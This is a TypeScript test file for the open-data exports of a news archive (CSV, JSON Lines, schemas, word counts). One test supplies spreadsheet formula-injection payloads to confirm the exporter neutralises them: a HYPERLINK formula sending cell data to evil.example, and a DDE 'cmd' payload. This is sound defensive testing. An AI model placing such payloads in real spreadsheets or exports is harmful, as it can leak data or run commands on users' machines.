import { describe, expect, it } from 'vitest';
import { buildArchive, type ArticleEntryLike } from '../../src/model/archive';
import {
  ARTICLE_COLUMNS,
  articleRow,
  articleRowSchema,
  countWords,
  dataFiles,
  jsonSchemaOf,
  toCsv,
  toJsonLines,
} from '../../src/model/open-data';
import { articleSchema, type ArticleInput } from '../../src/model/schema';
import { URLS } from '../support/model';
import { readCsv, spreadsheetRuns } from '../support/readers';

function articleOf(data: Partial<ArticleInput> = {}) {
  const entry: ArticleEntryLike = {
    id: '2021/05/call',
    data: articleSchema.parse({
      title: 'Head of State had telephone talk with Tajik President',
      summary: 'President Tokayev had a telephone conversation with President Rahmon.',
      source: { name: 'Kazinform' },
      kind: 'call',
      published: '2021-05-02T08:10:00+06:00',
      leaders: ['kassym-jomart-tokayev', 'emomali-rahmon'],
      countries: ['tajikistan'],
      ...data,
    }),
  };
  return buildArchive([entry], [], [], URLS).articles[0]!;
}

const context = { url: 'https://news.example.org/articles/2021/05/call/', wordCount: 42 };

describe('articleRow', () => {
  it('has one value per column, in column order, with unknown values as null', () => {
    const row = articleRow(articleOf(), context);
    expect(Object.keys(row)).toEqual(ARTICLE_COLUMNS.map((c) => c.key));
    expect(row).toMatchObject({
      id: '2021/05/call',
      url: context.url,
      published: '2021-05-02T08:10:00+06:00',
      source: 'Kazinform',
      source_url: null,
      licence: null,
      author: null,
      leaders: ['kassym-jomart-tokayev', 'emomali-rahmon'],
      word_count: 42,
    });
  });

  it('is accepted by the row schema, and a row missing a column or adding one is not', () => {
    const row = articleRow(articleOf({ source: { name: 'Kazinform', licence: 'CC BY 4.0' } }), context);
    expect(articleRowSchema.safeParse(row).success).toBe(true);
    const missing = Object.fromEntries(Object.entries(row).filter(([key]) => key !== 'word_count'));
    expect(articleRowSchema.safeParse(missing).success).toBe(false);
    expect(articleRowSchema.safeParse({ ...row, body: 'x' }).success).toBe(false);
    expect(articleRowSchema.safeParse({ ...row, published: '2021-02-30' }).success).toBe(false);
  });
});

describe('toCsv', () => {
  it('quotes commas, quotes and line breaks so that two CSV parsers read the values back', () => {
    const summary = 'Talks on "trade", energy,\nand water';
    const rows = [articleRow(articleOf({ summary }), context), articleRow(articleOf(), context)];
    const data = readCsv(toCsv(rows));
    expect(Object.keys(data[0]!)).toEqual(ARTICLE_COLUMNS.map((c) => c.key));
    expect(data).toHaveLength(2);
    expect(data[0]!['summary']).toBe(summary);
    expect(data[0]!['leaders']).toBe('kassym-jomart-tokayev; emomali-rahmon');
    expect(data[0]!['author']).toBe('');
  });

  it('starts with a byte order mark and the header, and ends every record, the last one too, with CRLF', () => {
    const csv = toCsv([articleRow(articleOf(), context)]);
    expect(csv.startsWith('\uFEFFid,url,title,')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.split('\r\n')).toHaveLength(3);
  });

  it('writes no cell a spreadsheet would run, keeping the text and numbers', () => {
    const article = articleOf({
      title: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      summary: "+1+cmd|' /C calc'!A0",
      author: '@SUM(1+1)',
      source: { name: '-Kazinform', licence: ' =CC BY' },
      tags: ['=tag', 'Energy'],
    });
    const [row] = readCsv(toCsv([articleRow(article, { ...context, wordCount: 7 })]));
    for (const [column, cell] of Object.entries(row!)) expect(spreadsheetRuns(cell), column).toBe(false);
    expect(row).toMatchObject({
      title: '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
      summary: "'+1+cmd|' /C calc'!A0",
      author: "'@SUM(1+1)",
      source: "'-Kazinform",
      licence: "'=CC BY",
      tags: "'=tag; Energy",
      word_count: '7',
    });
  });
});

describe('toJsonLines', () => {
  it('writes one JSON object per line', () => {
    const rows = [articleRow(articleOf({ summary: 'A\nB' }), context), articleRow(articleOf(), context)];
    const lines = toJsonLines(rows).split('\n');
    expect(lines).toHaveLength(3);
    expect(lines[2]).toBe('');
    expect(JSON.parse(lines[0]!).summary).toBe('A\nB');
  });

  it('is empty when there is no row', () => {
    expect(toJsonLines([])).toBe('');
  });
});

describe('countWords', () => {
  it('counts words and numbers, not punctuation', () => {
    expect(countWords('The border is the longest in the world (7,591 km).')).toBe(10);
  });

  it('counts the text of links and components, not their addresses or tags', () => {
    expect(
      countWords('See [the speech](https://akorda.kz/en/speech-1).\n\n<Pullquote>Friends.</Pullquote>'),
    ).toBe(4);
  });

  it('counts words in any script', () => {
    expect(countWords('Токаев провёл переговоры с Путиным')).toBe(5);
  });
});

describe('dataFiles', () => {
  it('lists a CSV and a JSON Lines file per year, newest first, then the entities and schemas', () => {
    expect(dataFiles([2021, 2025]).map((f) => f.file)).toEqual([
      'articles-2025.csv',
      'articles-2025.jsonl',
      'articles-2021.csv',
      'articles-2021.jsonl',
      'leaders.json',
      'countries.json',
      'articles.schema.json',
      'leaders.schema.json',
      'countries.schema.json',
    ]);
  });
});

describe('jsonSchemaOf', () => {
  it('describes every column, requires them all and allows no other', () => {
    const schema = jsonSchemaOf(
      articleRowSchema,
      'https://news.example.org/data/articles.schema.json',
      'Article',
    );
    expect(schema['$schema']).toBe('http://json-schema.org/draft-07/schema#');
    expect(schema['$id']).toBe('https://news.example.org/data/articles.schema.json');
    const properties = schema['properties'] as Record<string, { description?: string }>;
    expect(Object.keys(properties)).toEqual(ARTICLE_COLUMNS.map((c) => c.key));
    for (const column of ARTICLE_COLUMNS)
      expect(properties[column.key]!.description).toBe(column.description);
    expect(schema['required']).toEqual(ARTICLE_COLUMNS.map((c) => c.key));
    expect(schema['additionalProperties']).toBe(false);
  });
});
